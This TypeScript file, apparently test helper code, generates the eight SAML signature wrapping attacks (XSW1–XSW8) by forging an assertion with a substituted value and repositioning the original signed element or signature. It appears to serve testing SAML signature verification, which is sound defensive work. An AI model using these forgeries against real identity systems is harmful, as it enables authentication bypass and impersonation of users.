import { newId } from './identity-provider.ts'

/**
 * The eight signature wrapping attacks as SAML Raider numbers them (after Somorovsky et al., "On Breaking SAML", 2012).
 * Each keeps the signed element somewhere in the document, unchanged, and puts one with another name where a reader may
 * look for it.
 * @param signed a response whose assertion and which itself may be signed.
 * @param evil what is put in the place of `good` in the copies.
 */
export function wrapped(signed: string, { good, evil }: { good: string; evil: string }): Record<string, string> {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(signed)![0]
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(assertion)![0]
  const bare = assertion.replace(signature, '')
  const forged = bare.replace(good, evil)
  const forgedAnew = withNewId(forged)
  const inside = (outer: string, inner: string) => outer.replace('</saml:Assertion>', `${inner}</saml:Assertion>`)
  const withSignature = (one: string, kept: string) => one.replace('</saml:Issuer>', `</saml:Issuer>${kept}`)
  const intoObject = (kept: string) => signature.replace('</Signature>', `<Object>${kept}</Object></Signature>`)
  const replaced = (content: string) => signed.replace(assertion, () => content)
  return {
    XSW3: replaced(forgedAnew + assertion),
    XSW4: replaced(inside(forgedAnew, assertion)),
    XSW5: replaced(withSignature(withNewId(forged), signature) + bare),
    XSW6: replaced(withSignature(forgedAnew, signature.replace('</Signature>', `${bare}</Signature>`))),
    XSW7: replaced(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    XSW8: replaced(withSignature(forgedAnew, intoObject(bare))),
  }
}

/** The two against a signed response. */
export function wrappedResponses(
  signed: string,
  { good, evil }: { good: string; evil: string },
): Record<string, string> {
  const signature = /<Signature[\s\S]*?<\/Signature>/.exec(signed)![0]
  const forged = signed
    .replace(signature, '')
    .replace(/ ID="[^"]+"/, ` ID="${newId()}"`)
    .replace(good, evil)
  const at = '</saml:Issuer>'
  return {
    XSW1: forged.replace(
      at,
      `${at}${signature.replace('</Signature>', `<Object>${signed.replace(signature, '')}</Object></Signature>`)}`,
    ),
    XSW2: forged.replace(at, `${at}${signed.replace(signature, '')}${signature}`),
  }
}

const withNewId = (assertion: string) => assertion.replace(/ ID="[^"]+"/, ` ID="${newId()}"`)
